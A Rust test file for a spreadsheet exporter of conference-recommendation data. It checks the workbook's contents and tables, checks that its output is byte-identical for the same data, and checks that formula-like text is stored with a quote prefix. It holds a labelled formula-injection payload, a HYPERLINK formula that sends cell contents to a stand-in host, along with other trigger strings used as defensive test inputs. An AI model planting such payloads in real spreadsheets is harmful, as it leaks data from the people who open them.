//! The workbook read back by an independent reader (calamine) and through its XML parts:
//! the recommendation rows equal the dataset's (with their conference's edition and year),
//! every sheet is a table with the dataset's rows, the Conferences sheet has a row per
//! conference (with a fictional second one) and a column per kind of figure, the About sheet
//! says what every column holds and what a blank means, no cell is a formula, every
//! formula-like text cell carries the quote prefix (headers named after vocabulary terms too,
//! end to end from a mutated copy of the data), and the bytes depend only on the data.

use std::collections::HashMap;
use std::io::{Cursor, Read};
use std::path::{Path, PathBuf};

use alliance_core::model::Dataset;
use alliance_export::csv_files::TextCells;
use alliance_export::filter::Selection;
use alliance_export::{Format, Options, render};
use calamine::{Data, Reader, Xlsx};

mod common;
use common::{FICTIONAL, add_fictional_conference};

/// The real dataset's folder.
fn data_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../data")
}

fn dataset() -> Dataset {
    let loaded = alliance_core::load(&data_dir()).expect("the dataset loads");
    assert!(!loaded.has_errors());
    loaded.dataset
}

fn options(selection: Selection) -> Options {
    Options {
        formats: vec![Format::Xlsx],
        selection,
        text: TextCells::Neutralized,
    }
}

fn workbook_bytes(dataset: &Dataset, selection: Selection) -> Vec<u8> {
    let files = render(dataset, &options(selection)).expect("renders");
    assert_eq!(files.len(), 1);
    assert_eq!(files[0].path, std::path::Path::new("alliance.xlsx"));
    files[0].bytes.clone()
}

fn open(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
    Xlsx::new(Cursor::new(bytes.to_vec())).expect("calamine opens the workbook")
}

/// The rows of a sheet below its header, as text (numbers as integers).
fn rows(book: &mut Xlsx<Cursor<Vec<u8>>>, sheet: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let range = book.worksheet_range(sheet).expect("sheet");
    let mut rows = range.rows().map(|row| {
        row.iter()
            .map(|cell| match cell {
                Data::String(s) => s.clone(),
                Data::Float(f) => format!("{f}"),
                Data::Int(i) => i.to_string(),
                Data::Empty => String::new(),
                other => panic!("{sheet}: unexpected cell {other:?}"),
            })
            .collect::<Vec<_>>()
    });
    let header = rows.next().expect("a header row");
    (header, rows.collect())
}

fn column<'a>(header: &[String], row: &'a [String], name: &str) -> &'a str {
    let i = header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name}"));
    &row[i]
}

#[test]
fn recommendation_rows_equal_the_datasets() {
    let dataset = dataset();
    let bytes = workbook_bytes(&dataset, Selection::default());
    let mut book = open(&bytes);
    assert_eq!(
        book.sheet_names(),
        [
            "Recommendations",
            "Summary",
            "Conferences",
            "Sessions",
            "Participants",
            "People",
            "Organizations",
            "Themes",
            "Instruments",
            "About"
        ]
    );
    let (header, rows) = rows(&mut book, "Recommendations");
    assert_eq!(rows.len(), dataset.recommendations.len());
    let name = |terms: &[alliance_core::model::Term], ids: &[String]| {
        ids.iter()
            .map(|id| {
                terms
                    .iter()
                    .find(|t| &t.id == id)
                    .map(|t| t.name.clone())
                    .expect("a term")
            })
            .collect::<Vec<_>>()
            .join("; ")
    };
    for (row, r) in rows.iter().zip(&dataset.recommendations) {
        let session = dataset.session(&r.session).expect("session");
        let conference = dataset.conference(&r.conference).expect("conference");
        assert_eq!(column(&header, row, "ID"), r.id);
        assert_eq!(column(&header, row, "Conference"), r.conference);
        assert_eq!(
            column(&header, row, "Edition"),
            conference.edition.to_string()
        );
        assert_eq!(
            column(&header, row, "Year"),
            conference.start_date[..4].to_string()
        );
        assert_eq!(column(&header, row, "Session ID"), r.session);
        assert_eq!(column(&header, row, "Session"), session.title);
        assert_eq!(column(&header, row, "Order"), r.order.to_string());
        assert_eq!(
            column(&header, row, "Label"),
            name(&dataset.vocabularies.labels, std::slice::from_ref(&r.label))
        );
        assert_eq!(column(&header, row, "Text"), r.text, "{}", r.id);
        assert_eq!(
            column(&header, row, "Themes"),
            name(&dataset.themes, &r.themes)
        );
        assert_eq!(
            column(&header, row, "Pillars"),
            name(&dataset.pillars, &r.pillars)
        );
        assert_eq!(
            column(&header, row, "Addressees"),
            name(&dataset.vocabularies.addressees, &r.addressees)
        );
        assert_eq!(column(&header, row, "Source report"), r.source.report);
        assert_eq!(column(&header, row, "Source section"), r.source.section);
        assert_eq!(
            column(&header, row, "Source bullet"),
            r.source.bullet.to_string()
        );
        assert_eq!(
            column(&header, row, "Source line"),
            r.source.line.to_string()
        );
    }
}

#[test]
fn every_sheet_is_a_table_with_the_datasets_rows_and_no_formula() {
    let dataset = dataset();
    let bytes = workbook_bytes(&dataset, Selection::default());
    let mut book = open(&bytes);
    let participants: usize = dataset.sessions.iter().map(|s| s.participants.len()).sum();
    for (sheet, count) in [
        ("Recommendations", dataset.recommendations.len()),
        ("Conferences", dataset.conferences.len()),
        ("Sessions", dataset.sessions.len()),
        ("Participants", participants),
        ("People", dataset.people.len()),
        ("Organizations", dataset.organizations.len()),
        ("Themes", dataset.themes.len()),
        ("Instruments", dataset.instruments.len()),
    ] {
        assert_eq!(rows(&mut book, sheet).1.len(), count, "{sheet}");
    }
    book.load_tables().expect("tables");
    let names: Vec<String> = book.table_names().into_iter().cloned().collect();
    let mut tables: Vec<(String, String)> = names
        .into_iter()
        .map(|t| {
            let sheet = book
                .sheet_names()
                .into_iter()
                .find(|s| book.table_names_in_sheet(s).contains(&&t))
                .expect("a sheet");
            (sheet, t)
        })
        .collect();
    tables.sort();
    assert_eq!(
        tables,
        [
            ("About", "About"),
            ("Conferences", "Conferences"),
            ("Instruments", "Instruments"),
            ("Organizations", "Organizations"),
            ("Participants", "Participants"),
            ("People", "People"),
            ("Recommendations", "Recommendations"),
            ("Sessions", "Sessions"),
            ("Summary", "RecommendationsBySession"),
            ("Summary", "ThemesByPillar"),
            ("Themes", "Themes"),
        ]
        .map(|(s, t)| (s.to_owned(), t.to_owned()))
    );
    let recommendations = book.table_by_name("Recommendations").expect("table");
    assert_eq!(
        recommendations.data().height(),
        dataset.recommendations.len()
    );
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).expect("formulas");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet} has a formula"
        );
    }
    // the summary counts each recommendation once per theme
    let (_, summary) = rows(&mut book, "Summary");
    let all_themes = summary
        .iter()
        .find(|row| row[0] == "All themes")
        .expect("a total row");
    assert_eq!(
        all_themes.last().map(String::as_str),
        Some(dataset.recommendations.len().to_string().as_str())
    );
}

/// A zip part of the workbook as text.
fn part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip file");
    let mut text = String::new();
    archive
        .by_name(name)
        .expect("part")
        .read_to_string(&mut text)
        .expect("utf-8");
    text
}

/// The text between `open` (up to its closing `>`) and `close`, for each occurrence.
fn elements<'a>(xml: &'a str, open: &str, close: &str) -> Vec<(&'a str, &'a str)> {
    let mut out = Vec::new();
    let mut rest = xml;
    while let Some(start) = rest.find(open) {
        let after = &rest[start..];
        let Some(tag_end) = after.find('>') else {
            break;
        };
        let tag = &after[..tag_end];
        if tag.ends_with('/') {
            out.push((tag, ""));
            rest = &after[tag_end..];
            continue;
        }
        let Some(end) = after.find(close) else { break };
        out.push((tag, &after[tag_end + 1..end]));
        rest = &after[end..];
    }
    out
}

fn unescape(text: &str) -> String {
    let mut out = text
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"");
    for c in 0u8..0x20 {
        out = out.replace(&format!("_x{c:04X}_"), &char::from(c).to_string());
    }
    out.replace("&amp;", "&")
}

/// Every string cell of every sheet, in shared strings or inline (a workbook written row by
/// row): (sheet part, cell, text, whether it has the quote prefix).
fn string_cells(bytes: &[u8]) -> Vec<(String, String, String, bool)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip file");
    let shared = archive.by_name("xl/sharedStrings.xml").is_ok();
    let strings: Vec<String> = if shared {
        elements(&part(bytes, "xl/sharedStrings.xml"), "<si", "</si>")
            .into_iter()
            .map(|(_, si)| text_of(si))
            .collect()
    } else {
        Vec::new()
    };
    let styles = part(bytes, "xl/styles.xml");
    let cell_xfs = &styles[styles.find("<cellXfs").expect("cellXfs")..];
    let cell_xfs = &cell_xfs[..cell_xfs.find("</cellXfs>").expect("end")];
    let quoted: Vec<bool> = elements(cell_xfs, "<xf ", "</xf>")
        .into_iter()
        .map(|(tag, _)| tag.contains("quotePrefix=\"1\""))
        .collect();
    let mut out = Vec::new();
    for n in 1.. {
        let sheet = format!("xl/worksheets/sheet{n}.xml");
        if archive.by_name(&sheet).is_err() {
            break;
        }
        let xml = part(bytes, &sheet);
        for (tag, body) in elements(&xml, "<c ", "</c>") {
            let attr = |name: &str| {
                let start = tag.find(&format!(" {name}=\""))? + name.len() + 3;
                Some(tag[start..].split('"').next()?.to_owned())
            };
            let text = match attr("t").as_deref() {
                Some("s") => {
                    let index: usize = body
                        .trim_start_matches("<v>")
                        .trim_end_matches("</v>")
                        .parse()
                        .expect("a shared string index");
                    strings[index].clone()
                }
                Some("inlineStr") => text_of(body),
                Some("str") => panic!("{sheet}: a formula's string {tag}"),
                _ => continue,
            };
            let style: usize = attr("s").map_or(0, |s| s.parse().expect("a style index"));
            out.push((
                sheet.clone(),
                attr("r").expect("a cell reference"),
                text,
                quoted[style],
            ));
        }
    }
    out
}

/// The text of a string item (its runs' `<t>` joined).
fn text_of(item: &str) -> String {
    elements(item, "<t", "</t>")
        .into_iter()
        .map(|(_, t)| unescape(t))
        .collect()
}

/// `A1` for a zero-based row and column.
fn cell_name(row: u32, col: u32) -> String {
    let mut letters = Vec::new();
    let mut n = col + 1;
    while n > 0 {
        let rem = u8::try_from((n - 1) % 26).expect("a letter");
        letters.push(char::from(b'A' + rem));
        n = (n - 1) / 26;
    }
    letters.iter().rev().collect::<String>() + &(row + 1).to_string()
}

/// The characters that make a spreadsheet read text as a formula when they start it.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Every text cell that calamine reads from any sheet and that starts like a formula has the
/// quote prefix in the file; returns those cells' sheets and texts.
fn assert_formula_like_text_is_quoted(bytes: &[u8]) -> Vec<(String, String)> {
    let quoted: HashMap<(String, String), bool> = string_cells(bytes)
        .into_iter()
        .map(|(sheet, cell, _, quoted)| ((sheet, cell), quoted))
        .collect();
    let mut book = open(bytes);
    let mut found = Vec::new();
    for (i, sheet) in book.sheet_names().into_iter().enumerate() {
        let part = format!("xl/worksheets/sheet{}.xml", i + 1);
        let range = book.worksheet_range(&sheet).expect("sheet");
        let (top, left) = range.start().expect("a used range");
        for (r, c, cell) in range.used_cells() {
            let Data::String(text) = cell else { continue };
            if !text.starts_with(TRIGGERS) {
                continue;
            }
            let name = cell_name(
                top + u32::try_from(r).expect("row"),
                left + u32::try_from(c).expect("col"),
            );
            assert_eq!(
                quoted.get(&(part.clone(), name.clone())),
                Some(&true),
                "{sheet}!{name}: {text:?} has no quote prefix"
            );
            found.push((sheet.clone(), text.clone()));
        }
    }
    found
}

/// A copy of the real dataset in a temporary folder, with `mutations` (file, from, to) made:
/// each `from` must be in its file.
fn mutated_copy(mutations: &[(&str, &str, &str)]) -> tempfile::TempDir {
    fn copy(from: &Path, to: &Path) {
        std::fs::create_dir_all(to).expect("create dir");
        for entry in std::fs::read_dir(from).expect("read dir") {
            let entry = entry.expect("dir entry");
            let target = to.join(entry.file_name());
            if entry.file_type().expect("file type").is_dir() {
                copy(&entry.path(), &target);
            } else {
                std::fs::copy(entry.path(), &target).expect("copy file");
            }
        }
    }
    let tmp = tempfile::tempdir().expect("temp dir");
    copy(&data_dir(), tmp.path());
    for (file, from, to) in mutations {
        let path = tmp.path().join(file);
        let text = std::fs::read_to_string(&path).expect("read");
        assert!(text.contains(from), "{file} no longer contains {from:?}");
        std::fs::write(&path, text.replacen(from, to, 1)).expect("write");
    }
    tmp
}

#[test]
fn every_text_cell_from_the_data_is_quote_prefixed_end_to_end() {
    // vocabulary names become the Summary's headers and the Conferences sheet's, conference
    // fields the About sheet's values
    let data = mutated_copy(&[
        (
            "vocabularies/pillars.toml",
            "name = \"Prevention\"",
            "name = \"=Prevention\"",
        ),
        (
            "vocabularies/labels.toml",
            "name = \"Findings\"",
            "name = \"+Findings\"",
        ),
        (
            "vocabularies/labels.toml",
            "name = \"Recommendations\"",
            "name = \"@Recommendations\"",
        ),
        (
            "vocabularies/addressees.toml",
            "name = \"Authorities\"",
            "name = \"-Authorities\"",
        ),
        ("vocabularies/session-kinds.toml", "name = \"", "name = \"="),
        (
            "vocabularies/figure-kinds.toml",
            "name = \"Participants\"",
            "name = \"@Participants\"",
        ),
        (
            "conferences/alliance-17/conference.toml",
            "title = \"Highlights",
            "title = \"-Highlights",
        ),
        (
            "conferences/alliance-17/conference.toml",
            "city = \"Vienna\"",
            "city = \"+Vienna\"",
        ),
    ]);
    // the outputs go outside the dataset: alliance-export refuses a folder inside it
    let out = tempfile::tempdir().expect("temp dir");
    let status = std::process::Command::new(env!("CARGO_BIN_EXE_alliance-export"))
        .arg(data.path())
        .arg("--out")
        .arg(out.path())
        .args(["--format", "xlsx", "--quiet"])
        .status()
        .expect("alliance-export runs");
    assert!(status.success(), "{status}");
    let bytes = std::fs::read(out.path().join("alliance.xlsx")).expect("the workbook");
    let found = assert_formula_like_text_is_quoted(&bytes);
    let has = |sheet: &str, text: &str| found.iter().any(|(s, t)| s == sheet && t == text);
    // headers of the Summary's tables, and values of the Recommendations sheet
    for text in ["=Prevention", "+Findings", "@Recommendations"] {
        assert!(has("Summary", text), "{text:?} in {found:?}");
        assert!(has("Recommendations", text), "{text:?} in {found:?}");
    }
    assert!(has("Recommendations", "-Authorities"), "{found:?}");
    // a header of the Conferences sheet named after a figure kind, and a conference's city
    assert!(has("Conferences", "@Participants"), "{found:?}");
    assert!(has("Conferences", "+Vienna"), "{found:?}");
    assert!(
        found
            .iter()
            .any(|(s, t)| s == "About" && t.starts_with("-Highlights")),
        "{found:?}"
    );
}

#[test]
fn formula_like_text_is_stored_as_text_with_the_quote_prefix() {
    let mut dataset = dataset();
    let attack = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")";
    dataset.recommendations[0].text = attack.to_owned();
    dataset.themes[0].name = "+1+1".to_owned();
    dataset.people[0].name = "@SUM(A1:A2)".to_owned();
    dataset.organizations[0].name = "-2+3".to_owned();
    dataset.sessions[1].title = "\t=1".to_owned();
    dataset.instruments[0].name = "\r=1".to_owned();
    dataset.people[1].name = "a = b, not a formula".to_owned();
    // headers of the Summary's tables
    dataset.pillars[0].name = "=Prevention".to_owned();
    dataset.vocabularies.labels[0].name = "-Recommendations".to_owned();
    let bytes = workbook_bytes(&dataset, Selection::default());

    let cells = string_cells(&bytes);
    let triggers = TRIGGERS;
    let mut seen = HashMap::new();
    for (sheet, cell, text, quoted) in &cells {
        assert_eq!(
            *quoted,
            text.starts_with(triggers),
            "{sheet} {cell}: {text:?} quote prefix {quoted}"
        );
        *seen.entry(text.as_str()).or_insert(0) += 1;
    }
    for text in [
        attack,
        "+1+1",
        "@SUM(A1:A2)",
        "-2+3",
        "\t=1",
        "\r=1",
        "=Prevention",
        "-Recommendations",
    ] {
        assert!(
            seen.contains_key(text),
            "{text:?} is in the workbook as text"
        );
    }

    // and a reader sees the exact text, never a formula
    let mut book = open(&bytes);
    let (header, rows) = rows(&mut book, "Recommendations");
    assert_eq!(column(&header, &rows[0], "Text"), attack);
    assert!(column(&header, &rows[0], "Themes").starts_with("+1+1; "));
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).expect("formulas");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet}"
        );
    }
}

#[test]
fn the_same_data_gives_the_same_bytes_dated_by_the_release() {
    let dataset = dataset();
    let a = workbook_bytes(&dataset, Selection::default());
    let b = workbook_bytes(&dataset, Selection::default());
    assert!(a == b, "two renders differ");
    let core = part(&a, "docProps/core.xml");
    assert!(
        core.contains(&format!(
            "<dcterms:created xsi:type=\"dcterms:W3CDTF\">{}T00:00:00Z</dcterms:created>",
            dataset.release.date
        )),
        "{core}"
    );
}

#[test]
fn a_cell_too_long_for_excel_is_a_clear_error() {
    let mut dataset = dataset();
    dataset.recommendations[0].text = "x".repeat(32_768);
    let err = render(&dataset, &options(Selection::default())).expect_err("too long");
    let message = format!("{err:#}");
    assert!(
        message.contains("cannot hold the `Text` of `a17-panel-1-r01`")
            && message.contains("at most 32767 characters"),
        "{message}"
    );
}

#[test]
fn a_filtered_workbook_holds_the_subset_and_its_links_point_at_its_sessions() {
    let dataset = dataset();
    let selection = Selection {
        themes: vec!["trust-and-rapport".into()],
        ..Selection::default()
    };
    let subset = selection.apply(&dataset);
    let bytes = workbook_bytes(&dataset, selection);
    let mut book = open(&bytes);
    let (header, rows) = rows(&mut book, "Recommendations");
    let ids: Vec<&str> = rows.iter().map(|r| column(&header, r, "ID")).collect();
    let want: Vec<&str> = subset
        .recommendations
        .iter()
        .map(|r| r.id.as_str())
        .collect();
    assert_eq!(ids, want);
    assert!(!ids.is_empty());
    let (session_header, sessions) = self::rows(&mut book, "Sessions");
    assert_eq!(sessions.len(), subset.sessions.len());
    // each recommendation's session link targets the row of its session
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    let links = elements(&sheet, "<hyperlink ", "</hyperlink>");
    assert_eq!(links.len(), rows.len());
    for ((tag, _), row) in links.iter().zip(&rows) {
        let location = tag
            .split("location=\"")
            .nth(1)
            .and_then(|l| l.split('"').next())
            .expect("an internal link");
        let target: usize = location
            .trim_start_matches("'Sessions'!A")
            .parse()
            .expect("a row number");
        assert_eq!(
            column(&session_header, &sessions[target - 2], "ID"),
            column(&header, row, "Session ID")
        );
    }
}

#[test]
fn the_conferences_sheet_has_a_row_per_conference_and_a_column_per_kind_of_figure() {
    let mut dataset = dataset();
    let moved = add_fictional_conference(&mut dataset);
    assert!(moved > 0);
    let bytes = workbook_bytes(&dataset, Selection::default());
    let mut book = open(&bytes);
    let (header, conferences) = rows(&mut book, "Conferences");
    assert_eq!(
        header,
        [
            "ID",
            "Series",
            "Edition",
            "Title",
            "Start date",
            "End date",
            "City",
            "Venue",
            "Organizer",
            "Participants",
            "OSCE participating States represented",
            "Partners for Co-operation represented",
            "Delegations",
            "Figures",
            "In line with",
            "Sessions",
            "Recommendations",
            "Source title",
            "Source report",
            "Source publisher",
        ]
    );
    assert_eq!(conferences.len(), 2);
    let (real, fictional) = (&conferences[0], &conferences[1]);
    let real_conference = &dataset.conferences[0];
    let source = real_conference.source.as_ref().expect("a source");
    for (name, want) in [
        ("ID", real_conference.id.as_str()),
        ("Edition", "17"),
        ("Title", real_conference.title.as_str()),
        ("Start date", "2017-04-03"),
        ("End date", "2017-04-04"),
        ("City", "Vienna"),
        ("Venue", "Hofburg"),
        // the conference-wide figure, not the session's 150 participants
        ("Participants", "381"),
        ("OSCE participating States represented", "57"),
        ("Delegations", ""),
        ("Source title", source.title.as_str()),
        ("Source report", source.report.as_str()),
    ] {
        assert_eq!(column(&header, real, name), want, "{name}");
    }
    assert!(
        column(&header, real, "Figures").ends_with("; some 150 participants [a17-thematic-2]"),
        "{real:?}"
    );
    assert_eq!(
        column(&header, real, "Organizer"),
        "Office of the Special Representative and Co-ordinator for Combating Trafficking in Human Beings"
    );
    for (name, want) in [
        ("ID", FICTIONAL),
        ("Edition", "99"),
        ("Start date", "2031-05-06"),
        ("Organizer", ""),
        ("Participants", ""),
        ("Delegations", "12"),
        ("Figures", "12 delegations"),
        ("In line with", ""),
        ("Sessions", "1"),
        ("Recommendations", &moved.to_string()),
        ("Source title", ""),
        ("Source report", ""),
    ] {
        assert_eq!(column(&header, fictional, name), want, "{name}");
    }

    // each recommendation gives its own conference's edition and year
    let (header, recommendations) = rows(&mut book, "Recommendations");
    for (row, r) in recommendations.iter().zip(&dataset.recommendations) {
        let (edition, year) = if r.conference == FICTIONAL {
            ("99", "2031")
        } else {
            ("17", "2017")
        };
        assert_eq!(column(&header, row, "Conference"), r.conference);
        assert_eq!(column(&header, row, "Edition"), edition, "{}", r.id);
        assert_eq!(column(&header, row, "Year"), year, "{}", r.id);
    }
    let (_, about) = rows(&mut book, "About");
    let about: HashMap<&str, &str> = about
        .iter()
        .map(|row| (row[0].as_str(), row[1].as_str()))
        .collect();
    assert_eq!(about["Rows: Conferences"], "2");
    assert!(
        about["Conferences: Delegations"].ends_with(
            "Blank when the report gives no figure of this kind for the conference as a whole."
        ),
        "{about:?}"
    );
}

#[test]
fn the_about_sheet_says_what_every_column_holds_and_what_a_blank_means() {
    let dataset = dataset();
    let bytes = workbook_bytes(&dataset, Selection::default());
    let mut book = open(&bytes);
    let (_, about) = rows(&mut book, "About");
    let about: HashMap<&str, &str> = about
        .iter()
        .map(|row| (row[0].as_str(), row[1].as_str()))
        .collect();
    let mut described = 0;
    for sheet in book.sheet_names() {
        if ["Summary", "About"].contains(&sheet.as_str()) {
            continue;
        }
        let (header, _) = rows(&mut book, &sheet);
        for name in header {
            let item = format!("{sheet}: {name}");
            let text = about
                .get(item.as_str())
                .unwrap_or_else(|| panic!("no row {item}"));
            assert!(text.ends_with('.'), "{item}: {text}");
            described += 1;
        }
    }
    assert!(described > 60, "{described}");
    // an analyst filtering addressees learns why most are blank
    let addressees = about["Recommendations: Addressees"];
    assert!(
        addressees.contains(
            "Blank when the recommendation's text names no actor who should act: an addressee is recorded only where the text names one"
        ),
        "{addressees}"
    );
    let blank = dataset
        .recommendations
        .iter()
        .filter(|r| r.addressees.is_empty())
        .count();
    assert!(blank > dataset.recommendations.len() / 2);
    // a column that is never blank says nothing of blanks
    assert_eq!(about["Recommendations: ID"], "Stable id.");
    assert!(about["Organizations: Kind"].contains("Blank when"));
    assert!(
        about["Participants: Note"].ends_with("Blank when the report states the role directly.")
    );
}
